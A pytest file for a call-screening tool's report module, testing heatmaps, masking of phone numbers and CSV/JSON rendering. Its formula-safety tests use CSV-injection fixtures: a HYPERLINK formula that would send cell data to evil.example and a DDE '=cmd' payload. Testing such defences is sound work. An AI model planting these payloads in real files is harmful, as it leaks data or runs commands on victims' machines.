"""Tests for screener.report: pure building and rendering of the managers' report."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, date, datetime, timedelta
from zoneinfo import ZoneInfo

import pytest

from screener import report
from screener.model import Flag, Presentation
from screener.number import mask
from screener.rules import Match, csv_safe
from tests.factories import make_flag, make_rule

ZONE = ZoneInfo("Asia/Shanghai")
FIRST = date(2024, 3, 4)  # a Monday
DAYS = report.days_between(FIRST, FIRST + timedelta(days=6))
NUMBER = "+8613812341234"
OTHER = "+12025550123"
BLOCK = "+86138123412"
HOSTILE_AGENT = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def caller(e164: str, count: int = 7, agents: int = 3) -> dict[str, object]:
    """A caller's stored details, as ``asdict(CallerStats)`` gives them."""
    return {
        "key": e164,
        "count": count,
        "agents": agents,
        "masked": mask(e164),
        "kind": "mobile",
        "region": "CN",
        "area": "Lianyungang, Jiangsu",
        "carrier": "China Mobile",
        "e164": e164,
    }


def anonymous_flags(n: int, agent: str = "PJSIP/agent1") -> list[Flag]:
    start = datetime(2024, 3, 5, 1, 2, 3, tzinfo=UTC)
    return [
        make_flag(
            f"1709600000.{i}",
            "anonymous",
            at=start + timedelta(minutes=i),
            presentation=Presentation.WITHHELD,
            agent=agent,
            called=f"40080012{i:02d}",
        )
        for i in range(n)
    ]


def sample(
    masked: bool = True, anonymous_limit: int = 10, agent: str = "PJSIP/agent1"
) -> report.Report:
    """A report with: Mon 2 flags at 09h + 1 at 23h, Wed 4 at 14h, Sun 1 at 00h (8 flags)."""
    top = [report.source(caller(NUMBER), 3, masked), report.source(caller(OTHER, 2), 2, masked)]
    return report.build(
        days=DAYS,
        zone=ZONE,
        day_hours={
            "20240304": {9: 2, 23: 1},
            "20240306": {14: 4},
            "20240310": {0: 1},
            "20240311": {10: 50},  # outside the period: ignored
        },
        day_hotlines={
            "20240304": {"service": 3},
            "20240306": {"sales": 3, "service": 1},
            "20240310": {"=cmd|' /C calc'!A0": 1},
            "20240311": {"ghost": 50},
        },
        distinct_callers=5,
        top_sources=top,
        repeat_offenders=top,
        clusters=[
            report.cluster(BLOCK, [f"{BLOCK}00", f"{BLOCK}34", f"{BLOCK}99"], masked),
        ],
        anonymous=anonymous_flags(3, agent),
        anonymous_limit=anonymous_limit,
        masked=masked,
    )


# --- days ----------------------------------------------------------------------------------------


def test_days_between_is_inclusive() -> None:
    assert report.days_between(date(2024, 2, 28), date(2024, 3, 1)) == [
        date(2024, 2, 28),
        date(2024, 2, 29),
        date(2024, 3, 1),
    ]
    assert report.days_between(FIRST, FIRST) == [FIRST]
    assert report.day_key(date(2024, 3, 4)) == "20240304"


def test_days_between_refuses_a_reversed_or_huge_period() -> None:
    with pytest.raises(ValueError, match="ends before it starts"):
        report.days_between(FIRST, FIRST - timedelta(days=1))
    assert len(report.days_between(FIRST, FIRST + timedelta(days=3659))) == 3660
    with pytest.raises(ValueError, match="3660"):
        report.days_between(FIRST, FIRST + timedelta(days=3660))


# --- build ---------------------------------------------------------------------------------------


def test_build_totals_and_heatmap() -> None:
    r = sample()
    assert (r.since, r.until, r.timezone) == ("2024-03-04", "2024-03-10", "Asia/Shanghai")
    assert r.total_flags == 8  # the day after the period is not counted
    assert r.distinct_callers == 5
    assert list(r.heatmap) == [d.isoformat() for d in DAYS]
    assert all(len(row) == 24 for row in r.heatmap.values())
    assert r.heatmap["2024-03-04"][9] == 2
    assert r.heatmap["2024-03-04"][23] == 1
    assert r.heatmap["2024-03-06"] == [0] * 14 + [4] + [0] * 9
    assert r.heatmap["2024-03-05"] == [0] * 24
    assert r.heatmap["2024-03-10"][0] == 1
    assert r.by_day == {
        "2024-03-04": 3,
        "2024-03-05": 0,
        "2024-03-06": 4,
        "2024-03-07": 0,
        "2024-03-08": 0,
        "2024-03-09": 0,
        "2024-03-10": 1,
    }
    assert r.by_hour == {h: {0: 1, 9: 2, 14: 4, 23: 1}.get(h, 0) for h in range(24)}
    assert r.by_weekday == {1: 3, 2: 0, 3: 4, 4: 0, 5: 0, 6: 0, 7: 1}
    assert r.hotlines == {"service": 4, "sales": 3, "=cmd|' /C calc'!A0": 1}
    assert next(iter(r.hotlines)) == "service"  # most first
    assert "ghost" not in r.hotlines


def test_build_lists_anonymous_calls_with_local_time_and_called_number() -> None:
    r = sample()
    assert r.anonymous_truncated is False
    assert [a.at for a in r.anonymous_calls] == [
        "2024-03-05T09:02:03+08:00",
        "2024-03-05T09:03:03+08:00",
        "2024-03-05T09:04:03+08:00",
    ]
    assert [a.called for a in r.anonymous_calls] == ["4008001200", "4008001201", "4008001202"]
    assert {a.presentation for a in r.anonymous_calls} == {"withheld"}
    assert {a.hotline for a in r.anonymous_calls} == {"service"}


def test_build_truncates_anonymous_calls_at_the_limit() -> None:
    r = sample(anonymous_limit=2)
    assert r.anonymous_truncated is True
    assert len(r.anonymous_calls) == 2
    assert r.anonymous_calls[-1].called == "4008001201"
    exact = sample(anonymous_limit=3)
    assert exact.anonymous_truncated is False
    assert len(exact.anonymous_calls) == 3


# --- sources and clusters -----------------------------------------------------------------------


def test_source_masked_and_unmasked() -> None:
    masked = report.source(caller(NUMBER), 3, masked=True)
    assert masked.number == "+86138****1234"
    assert (masked.flags, masked.total_flags, masked.agents) == (3, 7, 3)
    assert (masked.kind, masked.region) == ("mobile", "CN")
    assert (masked.area, masked.carrier) == ("Lianyungang, Jiangsu", "China Mobile")
    assert report.source(caller(NUMBER), 3, masked=False).number == NUMBER


def test_source_without_a_number_shows_its_masked_key() -> None:
    details = {"masked": "h1a2b3c4d", "count": 2, "kind": "invalid", "e164": ""}
    assert report.source(details, 2, masked=False).number == "h1a2b3c4d"
    assert report.source({"e164": ""}, 1, masked=True).number == "unknown"


def test_cluster_suggests_a_rule_only_unmasked() -> None:
    numbers = [f"{BLOCK}00", f"{BLOCK}34", f"{BLOCK}99"]
    plain = report.cluster(BLOCK, numbers, masked=False)
    assert plain.block == BLOCK
    assert plain.numbers == tuple(numbers)
    assert f"'{BLOCK}*'" in plain.suggested_rule
    assert "3 flagged numbers" in plain.suggested_rule
    # the suggested value is a prefix rule the rules command accepts
    rule = make_rule(f"{BLOCK}*")
    assert rule.match is Match.PREFIX
    assert rule.value == BLOCK

    hidden = report.cluster(BLOCK, numbers, masked=True)
    assert hidden.numbers == tuple(mask(n) for n in numbers)
    assert BLOCK not in hidden.block
    assert BLOCK not in hidden.suggested_rule
    assert "--unmasked" in hidden.suggested_rule


def test_masked_cluster_block_reveals_no_digit_its_numbers_hide() -> None:
    numbers = [f"{BLOCK}00", f"{BLOCK}34", f"{BLOCK}99"]
    hidden = report.cluster(BLOCK, numbers, masked=True)
    for number, shown in zip(numbers, hidden.numbers, strict=True):
        for i, ch in enumerate(hidden.block):
            if shown[i] == "*":
                assert ch == "*", (hidden.block, shown, i)
        # together, the block and the masked number still leave digits hidden
        combined = "".join(
            b if b != "*" else n for b, n in zip(hidden.block + "xx", shown, strict=True)
        )
        assert combined.count("*") >= 3
        assert number not in combined


# --- rendering -----------------------------------------------------------------------------------


def test_heatmap_text_rows_and_columns() -> None:
    text = report.heatmap_text(sample().heatmap)
    lines = text.splitlines()
    assert lines[0].strip() == "000000000011111111112222"
    assert lines[1].split()[0] == "012345678901234567890123"
    rows = {line[:10]: line for line in lines[2:9]}
    assert list(rows) == [d.isoformat() for d in DAYS]
    offset = lines[1].index("0123")
    monday = rows["2024-03-04"]
    assert monday[11:13] == "Mo"
    cells = monday[offset : offset + 24]
    assert [h for h, c in enumerate(cells) if c != " "] == [9, 23]
    assert monday[offset + 24 :] == "   3"
    assert lines[1][offset + 24 :] == "   flags"
    wednesday = rows["2024-03-06"][offset : offset + 24]
    assert wednesday[14] == "@"  # the busiest hour is the darkest shade
    assert wednesday.replace("@", "").strip() == ""
    assert cells[23] not in (" ", "@")  # 1 flag of a peak of 4: some lighter shade
    assert rows["2024-03-05"][offset : offset + 24] == " " * 24
    assert rows["2024-03-10"][11:13] == "Su"
    assert lines[-1].endswith("4 flags in an hour")


def test_heatmap_text_of_an_empty_period() -> None:
    text = report.heatmap_text({"2024-03-04": [0] * 24})
    assert "2024-03-04 Mo " + " " * 24 + "   0" in text
    assert text.splitlines()[-1].endswith("0 flags in an hour")


def test_render_text_sections() -> None:
    text = report.render_text(sample())
    assert text.startswith("screener report 2024-03-04 .. 2024-03-10 (Asia/Shanghai)\n")
    assert "8 flags from 5 distinct callers\n" in text
    assert "(numbers unmasked)" not in text
    for section in (
        "Flags by day and hour",
        "By hour of day",
        "By weekday",
        "Hotlines",
        "Top sources",
        "Repeat offenders",
        "Prefix clusters",
        "Anonymous flagged calls",
    ):
        assert section in text
    assert "+86138****1234" in text
    assert "2024-03-05T09:02:03+08:00  4008001200" in text
    assert "(more not shown" not in text
    assert "suggested: a prefix rule for this block" in text


def test_render_text_says_when_anonymous_calls_were_cut() -> None:
    text = report.render_text(sample(anonymous_limit=1))
    assert "2024-03-05T09:02:03+08:00" in text
    assert "2024-03-05T09:03:03+08:00" not in text
    assert "(more not shown: use --format csv, or narrow the period)" in text


def test_render_text_of_an_empty_report() -> None:
    r = report.build(
        days=DAYS,
        zone=ZONE,
        day_hours={},
        day_hotlines={},
        distinct_callers=0,
        top_sources=[],
        repeat_offenders=[],
        clusters=[],
        anonymous=[],
        anonymous_limit=10,
    )
    assert r.total_flags == 0
    text = report.render_text(r)
    assert "0 flags from 0 distinct callers" in text
    assert text.count("(none)") == 5  # hotlines, sources, offenders, clusters, anonymous


@pytest.mark.parametrize("masked", [True, False])
def test_masked_output_never_holds_a_full_number(masked: bool) -> None:
    r = sample(masked=masked)
    outputs = [report.render_text(r), report.render_csv(r), report.render_json(r)]
    for out in outputs:
        for number in (NUMBER, OTHER, f"{BLOCK}00", f"{BLOCK}99"):
            assert (number in out) is not masked, (number, out[:200])
        assert (f"'{BLOCK}*'" in out) is not masked
    assert ("(numbers unmasked)" in outputs[0]) is not masked


@pytest.mark.parametrize(
    ("value", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("'x", "''x"),
        ("service", "service"),
        (5, "5"),
        ("a=b", "a=b"),
    ],
)
def test_csv_safe(value: object, safe: str) -> None:
    assert csv_safe(value) == safe


def read_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_render_csv_is_formula_safe() -> None:
    rows = read_csv(report.render_csv(sample(agent=HOSTILE_AGENT)))
    assert rows[0] == ["section", "a", "b", "c", "d", "e", "f", "g", "h"]
    for row in rows[1:]:
        for cell in row:
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), row
    calls = [row for row in rows if row[0] == "anonymous_call"]
    assert len(calls) == 3
    assert calls[0] == [
        "anonymous_call",
        "2024-03-05T09:02:03+08:00",
        "4008001200",
        "service",
        "withheld",
        "'" + HOSTILE_AGENT,
    ]
    hotlines = {row[1]: row[2] for row in rows if row[0] == "hotline"}
    assert hotlines["'=cmd|' /C calc'!A0"] == "1"
    sources = [row for row in rows if row[0] == "top_source"]
    assert sources[0][1] == "'+86138****1234"  # a leading + is a formula too


def test_render_csv_content() -> None:
    rows = read_csv(report.render_csv(sample()))
    sections = [row[0] for row in rows[1:]]
    assert rows[1] == ["period", "2024-03-04", "2024-03-10", "Asia/Shanghai", "8", "5"]
    assert sections.count("day") == 7
    assert sections.count("hour") == 24
    assert sections.count("weekday") == 7
    assert sections.count("repeat_offender") == 2
    assert sections.count("cluster") == 1
    day_hours = [row[1:4] for row in rows if row[0] == "day_hour"]
    assert day_hours == [
        ["2024-03-04", "9", "2"],
        ["2024-03-04", "23", "1"],
        ["2024-03-06", "14", "4"],
        ["2024-03-10", "0", "1"],
    ]
    days = {row[1]: row[2] for row in rows if row[0] == "day"}
    assert days["2024-03-06"] == "4"
    assert days["2024-03-05"] == "0"


def test_render_json_parses_and_round_trips_the_counts() -> None:
    r = sample(anonymous_limit=2)
    data = json.loads(report.render_json(r))
    assert data["total_flags"] == 8
    assert data["distinct_callers"] == 5
    assert data["heatmap"]["2024-03-06"][14] == 4
    assert data["by_hour"]["9"] == 2
    assert data["by_weekday"]["3"] == 4
    assert data["anonymous_truncated"] is True
    assert [a["called"] for a in data["anonymous_calls"]] == ["4008001200", "4008001201"]
    assert data["top_sources"][0]["number"] == "+86138****1234"
    assert data["clusters"][0]["numbers"][0] == mask(f"{BLOCK}00")
    assert data["masked"] is True
